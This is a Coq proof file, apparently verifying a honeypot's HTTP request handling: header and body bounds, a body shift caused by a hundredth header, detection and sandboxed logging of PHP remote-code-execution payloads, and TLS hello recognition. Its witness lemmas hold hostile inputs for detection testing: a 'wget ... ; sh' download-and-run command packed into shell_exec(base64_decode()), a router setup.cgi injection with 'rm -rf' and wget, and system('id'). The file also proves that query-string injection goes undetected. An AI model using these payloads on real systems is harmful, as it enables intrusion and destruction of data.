    destruct (read_line [] 0 (inp s)) as [[l0 ok0] r] eqn:E. intros [= <- <- <-]. cbn. rewrite Ec.
    apply read_line_spec in E as (_ & _ & (u & ->) & _); [| done | done | set_solver | set_solver]. split_and!; [done | done | by exists u]. }
  destruct (ReadLine s) as [[line ok] s1] eqn:E. destruct (HR _ _ _ eq_refl) as (E1 & E2 & u & E3).
  destruct (line =s []); [split_and!; [lia | done | done | by exists u] |].
  set (m1 := match splitHeader line with Some (k, v) => <[to_lower k := v]> m | None => m end).
  assert (Z.of_nat (size m1) <= Z.of_nat (size m) + 1) as Hm1.
  { unfold m1. destruct (splitHeader line) as [[k v] |]; [| lia]. destruct (m !! to_lower k) eqn:El.
    - rewrite map_size_insert_Some by eauto. lia.
    - rewrite map_size_insert_None by done. lia. }
  destruct (negb ok); [split_and!; [lia | done | done | by exists u] |].
  specialize (IH m1 s1). destruct (readHeaders n m1 s1) as [m' s']. destruct IH as (H1 & H2 & H3 & u2 & H4).
  split_and!; [lia | congruence | congruence |]. exists (u ++ u2). by rewrite <- app_assoc, <- H4.
Qed.

(** a request costs a bounded amount of memory whatever it declares: at most a hundred
    headers are kept and at most 64 KiB of a body, which is always the next bytes of the
    stream, however large the Content-Length. *)
Theorem request_bounded n s m0 :
  Z.of_nat (size (readHeaders maxHeaders ∅ s).1) <= 100 /\
  zlen (readBody s n).1 <= maxBodyBytes /\ zlen (readBody s n).1 <= Z.max 0 n /\
  inp s = (readBody s n).1 ++ inp (readBody s n).2 /\
  0 <= atoiSafe m0.
Proof.
  pose proof (readHeaders_spec maxHeaders ∅ s) as Hh. destruct (readHeaders maxHeaders ∅ s) as [m s'].
  destruct Hh as [Hh _]. rewrite map_size_empty in Hh. change (Z.of_nat maxHeaders) with 100 in Hh. cbn [fst].
  split; [lia |]. unfold readBody. destruct (n <=? 0) eqn:E; bool_hyps.
  { cbn. change (zlen []) with 0. unfold maxBodyBytes. split_and!; [lia | lia | done |].
    unfold atoiSafe. destruct (atoi _) as [k []]; [| lia]. destruct (k <? 0) eqn:?; bool_hyps; lia. }
  set (k := if maxBodyBytes <? n then maxBodyBytes else n).
  assert (k <= maxBodyBytes /\ k <= n /\ 0 < k) as (K1 & K2 & K3) by (unfold k, maxBodyBytes; destruct (65536 <? n) eqn:?; bool_hyps; lia).
  destruct (ReadN_spec k s) as (b & -> & Hb & Hz). cbn [fst snd inp set_inp]. split_and!; [lia | lia | |].
  - rewrite Hb at 1. by rewrite take_drop.
  - unfold atoiSafe. destruct (atoi _) as [j []]; [| lia]. destruct (j <? 0) eqn:?; bool_hyps; lia.
Qed.

(** A block of header lines. *)
Definition header_block (lines : list str) : str := flat_map (fun l => l ++ crlf) lines.
Definition plain_line (l : str) : Prop := TrimCRLF l = l /\ l <> [] /\ zb 10 ∉ l /\ zb 13 ∉ l /\ zlen l < maxLineBytes.

Lemma readHeaders_block lines : forall n m s rest,
  (length lines <= n)%nat -> capture s = None -> Forall plain_line lines -> inp s = header_block lines ++ rest ->
  exists m', readHeaders n m s = readHeaders (n - length lines) m' (set_inp s rest).
Proof.
  induction lines as [| l lines IH]; intros n m s rest Hn Hc Hall Hi.
  { exists m. cbn in Hi. subst rest. replace (n - length [])%nat with n by (simpl; lia). by destruct s. }
  apply Forall_cons in Hall as [(Ht & Hne & H10 & H13 & Hlen) Hall]. destruct n as [| n]; [simpl in Hn; lia |]. simpl in Hn.
  unfold header_block in Hi. cbn [flat_map] in Hi. rewrite <- !app_assoc in Hi.
  cbn [readHeaders]. unfold ReadLine at 1. rewrite Hc, Hi.
  rewrite (read_line_line [] 0 l crlf (flat_map (fun l => l ++ crlf) lines ++ rest)) by (done || lia || auto).
  cbn [app]. rewrite Ht, (proj2 (seqb_neq l [])) by done. cbn [negb].
  set (m1 := match splitHeader l with Some (k, v) => <[to_lower k := v]> m | None => m end).
  destruct (IH n m1 (set_inp s (header_block lines ++ rest)) rest ltac:(lia) Hc Hall eq_refl) as [m' E].
  exists m'. exact E.
Qed.

(** a request with exactly a hundred header lines has its body shifted: the loop stops
    before the empty line, so the captured body begins with that line's CR LF and loses as
    many bytes at its end. *)
Theorem hundredth_header_shifts_body lines body s n :
  capture s = None -> length lines = maxHeaders -> Forall plain_line lines ->
  inp s = header_block lines ++ crlf ++ body -> n = zlen body -> 2 < n <= maxBodyBytes ->
  let s' := (readHeaders maxHeaders ∅ s).2 in
  inp s' = crlf ++ body /\ (readBody s' n).1 = crlf ++ take (length body - 2) body.
Proof.
  intros Hc Hl Hall Hi -> Hn. cbn zeta.
  destruct (readHeaders_block lines maxHeaders ∅ s (crlf ++ body) ltac:(lia) Hc Hall Hi) as [m' ->].
  rewrite Hl, Nat.sub_diag. cbn [readHeaders snd inp set_inp]. split; [done |].
  unfold readBody. replace (zlen body <=? 0) with false by (symmetry; apply Z.leb_gt; lia).
  replace (maxBodyBytes <? zlen body) with false by (symmetry; apply Z.ltb_ge; lia). unfold ReadN.
  replace (zlen body <=? 0) with false by (symmetry; apply Z.leb_gt; lia). cbn [fst inp set_inp].
  unfold maxReadN, maxBodyBytes in *. change (Z.shiftl 1 20) with 1048576. rewrite Z.min_l by lia. unfold zlen in *.
  rewrite Nat2Z.id. change crlf with [zb 13; zb 10]. destruct (length body) as [| [| k]] eqn:E; [lia | lia |].
  cbn [app]. replace (S (S k) - 2)%nat with k by lia. done.
Qed.

Lemma hundredth_header_shifts_body_witness :
  let lines := repeat $$"A: b" 100 in
  let s := demo_client (header_block lines ++ crlf ++ $$"log=admin") in
  length lines = maxHeaders /\ (readBody (readHeaders maxHeaders ∅ s).2 9).1 = crlf ++ $$"log=adm".
Proof.
  intros lines s. split; [reflexivity |].
  apply (hundredth_header_shifts_body lines $$"log=admin" s 9); [reflexivity | reflexivity | | reflexivity | reflexivity | by split].
  unfold lines. apply Forall_forall. intros x Hx. apply list_elem_of_In, repeat_spec in Hx as ->.
  split_and!; [reflexivity | done | by apply (bool_decide_unpack _) | by apply (bool_decide_unpack _) | done].
Defined.

(** ** Exploits *)

Lemma b64_class_encode s : forallb b64_class (b64_encode true s) = true.
Proof.
  assert (forall v, 0 <= v < 64 -> b64_class (b64_char v) = true) as Hv.
  { assert (forallb (fun v => b64_class (b64_char v)) (seqZ 0 64) = true) as H by (vm_compute; reflexivity).
    rewrite forallb_forall in H. intros v Hv. apply H. apply list_elem_of_In, elem_of_seqZ. lia. }
  revert s. apply three_induction.
  - done.
  - intros a. pose proof (bz_range a). destruct (sextets (bz a * 65536)) as (K1 & K2 & _); [lia |].
    cbn [b64_encode app forallb]. cbn zeta. by rewrite !Hv by done.
  - intros a b. pose proof (bz_range a). pose proof (bz_range b).
    destruct (sextets (bz a * 65536 + bz b * 256)) as (K1 & K2 & K3 & _); [lia |].
    cbn [b64_encode app forallb]. cbn zeta. by rewrite !Hv by done.
  - intros a b c s IH. pose proof (bz_range a). pose proof (bz_range b). pose proof (bz_range c).
    destruct (sextets (bz a * 65536 + bz b * 256 + bz c)) as (K1 & K2 & K3 & K4 & _); [lia |].
    cbn [b64_encode forallb]. cbn zeta. rewrite !Hv by done. exact IH.
Qed.

Lemma quoted_class_word w q q' rest :
  forallb b64_class w = true -> w <> [] -> is_quote q = true -> is_quote q' = true ->
  quoted_class (q :: w ++ q' :: rest) = Some w.
Proof.
  intros Hw Hne Hq Hq'. cbn [quoted_class]. rewrite Hq.
  assert (b64_class q' = false) as Hb.
  { unfold is_quote in Hq'. apply orb_prop in Hq' as [H | H]; apply bool_decide_eq_true in H as ->; reflexivity. }
  assert (drop_while b64_class (w ++ q' :: rest) = q' :: rest) as Hd.
  { induction w as [| c w IH]; [cbn; by rewrite Hb |]. cbn in Hw. apply andb_prop in Hw as [Hc Hw].
    cbn [app drop_while]. rewrite Hc. destruct w as [| c2 w]; [cbn; by rewrite Hb | by apply IH]. }
  unfold take_while. rewrite Hd, length_app. replace (length w + length (q' :: rest) - length (q' :: rest))%nat with (length w) by lia.
  rewrite take_app_length. destruct w; [done |]. by rewrite Hq'.
Qed.

Lemma b64_encode_nonempty s : s <> [] -> b64_encode true s <> [].
Proof. intros Hs H. apply Hs. pose proof (b64_quanta_roundtrip true s) as R. rewrite H in R. by injection R. Qed.

Lemma leftmost_at {A} (m : str -> option A) pre s a :
  Forall (fun i => m (drop i pre ++ s) = None) (seq 0 (length pre)) -> m s = Some a -> leftmost m (pre ++ s) = Some a.
Proof.
  revert m. induction pre as [| c pre IH]; intros m Hall Ha.
  - cbn [app]. destruct s; cbn [leftmost]; by rewrite Ha.
  - cbn [length seq] in Hall. apply Forall_cons in Hall as [H0 Hall]. change (drop 0 (c :: pre) ++ s) with (c :: pre ++ s) in H0.
    cbn [app leftmost]. rewrite H0. apply IH; [| done]. apply Forall_forall. intros i Hi. rewrite Forall_forall in Hall.
    apply (Hall (S i)). apply elem_of_seq in Hi. apply elem_of_seq. lia.
Qed.

Lemma base64_call_found (f : str -> option str) fn q arg w :
  fn ∈ exec_words ++ [$$"proc_open"] -> is_quote q = true -> f (q :: arg) = Some w ->
  leftmost (fun s => (first_call (exec_words ++ [$$"proc_open"]) s ≫= call_of $$"base64_decode") ≫= f)
    ($$"<?php " ++ fn ++ $$"(base64_decode(" ++ q :: arg) = Some w.
Proof.
  intros Hfn Hq Hf. unfold is_quote in Hq. apply orb_prop in Hq as [H | H]; apply bool_decide_eq_true in H as ->;
    repeat (apply elem_of_cons in Hfn as [-> | Hfn]); [..| by apply elem_of_nil in Hfn | | | | | | | by apply elem_of_nil in Hfn];
    (apply leftmost_at; [repeat (apply Forall_cons; split; [vm_compute; reflexivity |]); apply Forall_nil_2 | vm_compute; exact Hf]).
Qed.

(** C27: a payload packed the way the PHP-CGI and phpunit loaders pack it is recovered whole:
    for every command, every one of the six calls and either quote, what is run (and so
    logged) is the decoded command, and the marker is the digest of the text the exploit
    echoes, if it echoes one. *)
Theorem base64_payload_recovered md5 path fn q cmd tail :
  fn ∈ exec_words ++ [$$"proc_open"] -> is_quote q = true -> cmd <> [] ->
  let body := $$"<?php " ++ fn ++ $$"(base64_decode(" ++ q :: b64_encode true cmd ++ q :: $$"));" ++ tail in
  extractRCE md5 path body = Some (trim_space cmd, match reEchoMd5 body with Some m => md5 m | None => [] end).
Proof.
  intros Hfn Hq Hne. cbn zeta.
  set (arg := b64_encode true cmd ++ q :: $$"));" ++ tail).
  assert (quoted_class (q :: arg) = Some (b64_encode true cmd)) as Harg.
  { apply quoted_class_word; [apply b64_class_encode | by apply b64_encode_nonempty | done | done]. }
  set (body := $$"<?php " ++ fn ++ $$"(base64_decode(" ++ q :: arg).
  assert (contains body $$"<?php" = true) as Hphp by reflexivity.
  assert (reBase64Exec body = Some (b64_encode true cmd)) as Hre by by apply base64_call_found.
  unfold extractRCE. cbv zeta. rewrite Hphp. cbn [orb]. rewrite Hre. cbn [mbind option_bind]. by rewrite b64_roundtrip.
Qed.

Lemma base64_payload_recovered_witness :
  let cmd := $$"wget http://203.0.113.5/m; sh m" in
  let body := $$"<?php " ++ $$"shell_exec" ++ $$"(base64_decode(" ++ zb 34 :: b64_encode true cmd ++ zb 34 :: $$"));" ++ [] in
  $$"shell_exec" ∈ exec_words ++ [$$"proc_open"] /\ extractRCE (fun _ => []) $$"/cgi-bin/php" body = Some (cmd, []).
Proof.
  intros cmd body. split; [by left |].
  etransitivity; [apply (base64_payload_recovered (fun _ => []) $$"/cgi-bin/php" $$"shell_exec" (zb 34) cmd []); [by left | reflexivity | done] | vm_compute; reflexivity].
Defined.

(** C26: an exploit is recorded before anything else happens, and stays inside: when a command
    is extracted, the request logs it as an attempted execution, runs it in the simulated
    shell, answers with the marker or the captured output, and neither writes to nor
    reads from the connection; the shell's memory is returned. *)
Theorem rce_is_recorded_and_contained W md5 date root p path body s g tk cmd marker :
  extractRCE md5 path body = Some (cmd, marker) -> cmd <> [] -> g <= maxGlobalOverlayBytes ->
  exists out' s' tk' es e,
    tryExploit W md5 date (Some root) p path body (s, g, tk) = Some ((rceResponse date p out' marker, exploitDelay), (s', g, tk')) /\
    events s' = events s ++ e :: es /\ e_Event e = $$"EXEC_ATTEMPT" /\ e_Command e = $$"http-rce: " ++ cmd /\
    out s' = out s /\ inp s' = inp s /\ Forall (attributed s) (e :: es).
Proof.
  intros Hx Hc Hg. unfold tryExploit. rewrite Hx, (proj2 (seqb_neq cmd [])) by done. unfold runRCE.
  set (s1 := LogExec ($$"http-rce: " ++ cmd) [] s).
  pose proof (RunOnceCaptured_effects W root p rceUser $$"ubuntu" None cmd s1 g tk Hg) as H.
  destruct (RunOnceCaptured _ _ _ _ _ _ _ _) as [[o c] [[s' g'] t']]. destruct H as (H1 & H2 & _ & _ & -> & _ & es & H3 & H4).
  eexists o, s', t', es, _. split; [reflexivity |]. rewrite H3. unfold s1. cbn [events LogExec add_event]. rewrite <- app_assoc.
  split_and!; [reflexivity | reflexivity | reflexivity | exact H1 | exact H2 | by constructor].
Qed.
Lemma rce_is_recorded_and_contained_witness :
  let body := Q $$"<?php system(~id~); ?>" in
  extractRCE (fun _ => []) $$"/phpunit" body = Some ($$"id", []) /\
  exists out' s' tk' es e,
    tryExploit quiet_world (fun _ => []) $$"Mon" (Some (Node [slash] 0 0 0 [] [] 0 [] [] false 0 ∅)) demo_web $$"/phpunit" body (demo_client [], 0, 0%nat) =
      Some ((rceResponse $$"Mon" demo_web out' [], exploitDelay), (s', 0, tk')) /\
    events s' = [] ++ e :: es /\ e_Event e = $$"EXEC_ATTEMPT" /\ e_Command e = $$"http-rce: id" /\ out s' = [] /\ inp s' = [] /\
    Forall (attributed (demo_client [])) (e :: es).
Proof.
  intros body. split; [vm_compute; reflexivity |].
  apply (rce_is_recorded_and_contained quiet_world (fun _ => []) $$"Mon" (Node [slash] 0 0 0 [] [] 0 [] [] false 0 ∅) demo_web $$"/phpunit" body
    (demo_client []) 0 0%nat $$"id" []); [vm_compute; reflexivity | done | by apply Z.leb_le].
Defined.

(** a command in the query string of a router's page is not looked at: without a body,
    no request but a ThinkPHP one is recognised, whatever its path. *)
Theorem query_injection_is_missed md5 path :
  contains (to_lower path) $$"invokefunction" = false -> extractRCE md5 path [] = None.
Proof.
  intros H. unfold extractRCE. rewrite H. cbv zeta.
  change (contains (to_lower []) $$"invokefunction") with false. cbn [orb].
  change (reBase64Exec [] ≫= b64_decode true) with (@None str). change (reLiteralExec []) with (@None str).
  change (default [] (QueryUnescape [])) with (@nil ascii). change (commandAfterInjection []) with (@nil ascii).
  change (looksLikeInjected []) with false. change ([] =s []) with true. cbn iota.
  repeat case_match; done.
Qed.
Lemma query_injection_is_missed_witness :
  extractRCE (fun _ => []) $$"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/m" [] = None.
Proof. apply query_injection_is_missed. vm_compute. reflexivity. Defined.

(** ** HTTPS *)

(** every record that opens like a TLS handshake is marked as one. *)
Theorem hello_is_recognised p s rest :
  capture s = None -> inp s = zb 22 :: zb 3 :: rest ->
  exists e, events (https_Handle p s) = events s ++ [e] /\ e_Event e = $$"TLS_HELLO" /\ has_prefix (e_Data e) $$"tls_hello=true" = true.
Proof.
  intros Hc Hi. unfold https_Handle, ReadLine.
  assert (capture (set_idle (set_persona s (Hostname p)) captureTimeout) = None) as -> by done.
  assert (inp (set_idle (set_persona s (Hostname p)) captureTimeout) = inp s) as -> by done. rewrite Hi.
  destruct (read_line [] 0 _) as [[l ok] r] eqn:E.
  assert (exists t, l = zb 22 :: zb 3 :: t) as [t ->].
  { change (read_line [zb 22; zb 3] 2 rest = (l, ok, r)) in E.
    assert (forall rest b n l ok r, read_line (zb 22 :: zb 3 :: b) n rest = (l, ok, r) -> exists b', l = TrimCRLF (zb 22 :: zb 3 :: b')) as H.
    { clear. induction rest as [| c rest IH]; intros b n l ok r; cbn [read_line]; [intros [= <- <- <-]; eauto |].
      repeat case_bool_decide; [intros [= <- <- <-]; eauto | intros [= <- <- <-]; eauto |].
      destruct (maxLineBytes <=? n + 1); [intros [= <- <- <-]; by exists (b ++ [c]) | apply (IH (b ++ [c]))]. }
    destruct (H rest [] 2 l ok r E) as [b' ->]. unfold TrimCRLF.
    destruct (trim_right_prefix (zb 22 :: zb 3 :: b') [zb 13; zb 10; zb 0]) as [t Ht].
    assert (forall a x, trim_right (zb 22 :: zb 3 :: x) [zb 13; zb 10; zb 0] = a -> a <> [] /\ a <> [zb 22]) as Hne.
    { intros a x <-. unfold trim_right, trim_right_fn. cbn [rev]. rewrite <- app_assoc.
      assert (forall y, exists z, rev (drop_while (in_set [zb 13; zb 10; zb 0]) (y ++ [zb 3] ++ [zb 22])) = zb 22 :: zb 3 :: z) as Hz.
      { induction y as [| c y IHy]; [exists []; reflexivity |]. cbn [app drop_while].
        destruct (in_set _ c); [exact IHy |]. exists (rev y ++ [c]). cbn [rev]. rewrite rev_app_distr. cbn. done. }
      destruct (Hz (rev x)) as [z ->]. done. }
    destruct (Hne _ b' eq_refl) as [N1 N2]. revert N1 N2 Ht.
    destruct (trim_right (zb 22 :: zb 3 :: b') _) as [| a [| a2 t2]]; intros N1 N2 Ht; [done | | ].
    - injection Ht as <- _. by destruct N2.
    - injection Ht as <- <- _. eauto. }
  cbn [events LogRaw add_event set_inp set_idle set_persona]. eexists. split; [reflexivity |]. split; reflexivity.
Qed.
Lemma hello_is_recognised_witness :
  exists e, events (https_Handle demo_web (demo_client (bytes [22; 3; 1; 2; 0; 1]))) = [] ++ [e] /\ e_Event e = $$"TLS_HELLO" /\
    has_prefix (e_Data e) $$"tls_hello=true" = true.
Proof. by apply (hello_is_recognised demo_web (demo_client (bytes [22; 3; 1; 2; 0; 1])) (bytes [1; 2; 0; 1])). Defined.
